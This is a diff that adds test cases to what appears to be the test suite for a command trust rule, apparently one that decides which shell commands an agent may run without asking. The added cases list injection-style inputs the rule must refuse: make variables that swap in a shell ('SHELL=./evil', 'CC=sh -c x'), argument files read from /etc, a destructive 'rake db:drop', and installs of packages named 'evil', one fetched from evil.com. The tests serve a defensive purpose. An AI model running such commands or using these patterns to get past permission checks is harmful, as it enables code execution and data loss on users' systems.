@@ -65,6 +65,7 @@ describe('a trust rule', () => {
         'python3 -m pytest a:/etc',
       ],
     ],
+    ['a file of arguments out of the folder', ['python3 -m pytest @/etc/args', 'npm test @../x']],
     ['an address', ['npm test http://x', 'npm test git+ssh://x']],
     ['a folder of the home', ['python3 -m pytest ~/x', "python3 -m pytest '~x'"]],
     [
@@ -75,6 +76,23 @@ describe('a trust rule', () => {
     ['a half of the words', ['npm', 'go', 'cargo build', 'npm t', 'npm run test']],
   ])('does not allow %s', (_, commands) => {
     expect(commands.filter((cmd) => verdict(cmd) === 'allow')).toEqual([]);
+  });
+
+  test.each([
+    [
+      ['make', 'test'],
+      ['make test deploy', 'make test SHELL=./evil', "make test 'CC=sh -c x'", "make test 'X=$(shell x)'"],
+    ],
+    [['just', 'test'], ['just test deploy']],
+    [['mvn', 'test'], ['mvn test deploy']],
+    [['bundle', 'exec', 'rake'], ['bundle exec rake db:drop']],
+    [['npm', 'install'], ['npm install evil']],
+    [['uv', 'pip', 'install'], ['uv pip install evil']],
+    [['go', 'install'], ['go install evil.com/x@latest']],
+  ])('for %j allows these words alone, as more of them say what more is run', (argv, commands) => {
+    const more = { trust: [{ argv, cwd: FOLDER, options: ['--'] }] };
+    expect(commands.filter((cmd) => verdict(cmd, { more }) === 'allow')).toEqual([]);
+    if (namesWhatRuns(argv)) expect(verdict(`${argv.join(' ')} -q`, { more })).toBe('allow');
   });
 
   test('is below every deny rule, and is asked about where the shell has other words for the program', () => {
